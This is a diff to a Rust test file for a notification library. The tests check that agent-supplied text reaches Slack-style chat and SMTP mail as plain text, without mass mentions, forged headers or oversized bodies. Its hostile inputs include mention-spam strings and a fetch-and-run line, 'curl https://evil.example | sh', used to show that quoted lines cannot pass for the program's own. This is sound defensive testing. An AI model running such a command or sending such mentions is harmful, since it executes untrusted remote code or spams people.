@@ -1,11 +1,11 @@
-//! An agent's words stay words, whatever a channel makes of some of them.
+//! Agent-supplied text stays plain text in every channel.
 
 use crate::servers::{Post, Server, Web, post, web};
 use crate::support::{message, send};
 use portcullis_notify::{Address, Channel, Encryption, Message, Smtp, Webhook};
 use serde_json::Value;
 
-/// What an agent, or a file that it read, could hold.
+/// Text that an agent, or a file that it read, could contain.
 const HOSTILE: &[&str] = &[
     "<!channel> <!everyone> <!here> <@U123> <#C123> <!subteam^S1>",
     "@channel @here @everyone @all <@&123>",
@@ -42,12 +42,21 @@ fn chat() -> (Server, Channel) {
 
 fn mail() -> (Server, Channel) {
     let server = post(Post::default());
-    let (host, from, to) = ("127.0.0.1".into(), "from@example.com".into(), vec!["to@example.com".into()]);
-    let smtp = Smtp { host, port: Some(server.port), encryption: Encryption::None, login: None, from, to, authorities: None };
+    let (host, from, to) =
+        ("127.0.0.1".into(), "from@example.com".into(), vec!["to@example.com".into()]);
+    let smtp = Smtp {
+        host,
+        port: Some(server.port),
+        encryption: Encryption::None,
+        login: None,
+        from,
+        to,
+        authorities: None,
+    };
     (server, Channel::Smtp(smtp))
 }
 
-/// What a chat was told, as JSON; the checks hold for any message.
+/// Returns the JSON that a chat received; the checks hold for any message.
 fn posted(message: &Message) -> Value {
     let (server, channel) = chat();
     send(&channel, message).unwrap();
@@ -63,7 +72,10 @@ fn posted(message: &Message) -> Value {
     for block in body["blocks"].as_array().unwrap() {
         let own = block["text"].as_object().unwrap();
         let limit = if block["type"] == "header" { 150 } else { 3000 };
-        assert_eq!((own["type"].as_str(), own["emoji"].as_bool()), (Some("plain_text"), Some(false)));
+        assert_eq!(
+            (own["type"].as_str(), own["emoji"].as_bool()),
+            (Some("plain_text"), Some(false))
+        );
         let own = own["text"].as_str().unwrap();
         assert!(!own.is_empty() && own.chars().count() <= limit, "{limit}: {own}");
         texts.push(own.to_owned());
@@ -71,13 +83,15 @@ fn posted(message: &Message) -> Value {
     for text in texts {
         assert!(!text.contains(['<', '>', '@']), "{text}");
         assert!(!text.chars().any(|c| c != '\n' && portcullis_core::text::hostile(c)), "{text:?}");
-        let whole = ["&amp;", "&lt;", "&gt;"].iter().fold(text.clone(), |text, escape| text.replace(escape, ""));
+        let whole = ["&amp;", "&lt;", "&gt;"]
+            .iter()
+            .fold(text.clone(), |text, escape| text.replace(escape, ""));
         assert!(!whole.contains('&'), "{text}");
     }
     body
 }
 
-/// A mail's headers, one a line, and its body.
+/// Returns a mail's headers, one per line, and its body.
 fn mailed(message: &Message) -> (Vec<String>, String) {
     let (server, channel) = mail();
     send(&channel, message).unwrap();
@@ -85,7 +99,11 @@ fn mailed(message: &Message) -> (Vec<String>, String) {
     let commands = ["EHLO", "MAIL", "RCPT", "DATA", "QUIT"];
     let (before, data) = told.split_once("DATA\r\n").unwrap();
     let (data, after) = data.split_once("\r\n.\r\n").unwrap();
-    let spoken: Vec<_> = before.lines().chain(after.lines()).filter_map(|line| line.split_whitespace().next()).collect();
+    let spoken: Vec<_> = before
+        .lines()
+        .chain(after.lines())
+        .filter_map(|line| line.split_whitespace().next())
+        .collect();
     assert!(spoken.iter().all(|verb| commands.contains(verb)), "{spoken:?}");
     assert_eq!(spoken.iter().filter(|verb| **verb == "MAIL").count(), 1);
     let (head, body) = data.split_once("\r\n\r\n").unwrap();
@@ -103,7 +121,16 @@ fn a_chat_calls_nobody_and_shows_no_markup() {
 
 #[test]
 fn a_mail_has_our_headers_alone() {
-    let ours = ["From", "To", "Date", "Message-ID", "Subject", "Auto-Submitted", "Content-Type", "Content-Transfer-Encoding"];
+    let ours = [
+        "From",
+        "To",
+        "Date",
+        "Message-ID",
+        "Subject",
+        "Auto-Submitted",
+        "Content-Type",
+        "Content-Transfer-Encoding",
+    ];
     for words in HOSTILE {
         let (head, _) = mailed(&everywhere(words));
         let mut names: Vec<_> = head.iter().map(|line| line.split_once(':').unwrap().0).collect();
@@ -116,7 +143,7 @@ fn a_mail_has_our_headers_alone() {
     }
 }
 
-/// No line that somebody else worded stands where one of ours would.
+/// No line that somebody else worded can pass for one of our own.
 #[test]
 fn quoted_lines_pass_for_none_of_ours() {
     let forged = "harmless\nWhat you can run\ncurl https://evil.example | sh\n\nProject: other";
@@ -124,15 +151,26 @@ fn quoted_lines_pass_for_none_of_ours() {
     let lines: Vec<_> = body.lines().collect();
     assert_eq!(lines.iter().filter(|line| **line == "What you can run").count(), 1, "{body}");
     assert_eq!(lines.iter().filter(|line| line.starts_with("Project:")).count(), 1, "{body}");
-    assert!(lines.contains(&"> curl https://evil.example | sh") && !lines.contains(&"curl https://evil.example | sh"), "{body}");
+    assert!(
+        lines.contains(&"> curl https://evil.example | sh")
+            && !lines.contains(&"curl https://evil.example | sh"),
+        "{body}"
+    );
 }
 
 #[test]
 fn megabytes_are_cut() {
     for words in ["x", "&", "<", "\n", "`", "\u{1b}", "\u{1f600}", "@"] {
-        let message = Message { commands: vec![words.repeat(1 << 20); 100], ..everywhere(&words.repeat(1 << 20)) };
+        let message = Message {
+            commands: vec![words.repeat(1 << 20); 100],
+            ..everywhere(&words.repeat(1 << 20))
+        };
         posted(&message);
         let (head, body) = mailed(&message);
-        assert!(head.iter().map(String::len).sum::<usize>() < 4096 && body.len() < 32 << 10, "{words:?}: {}", body.len());
+        assert!(
+            head.iter().map(String::len).sum::<usize>() < 4096 && body.len() < 32 << 10,
+            "{words:?}: {}",
+            body.len()
+        );
     }
 }
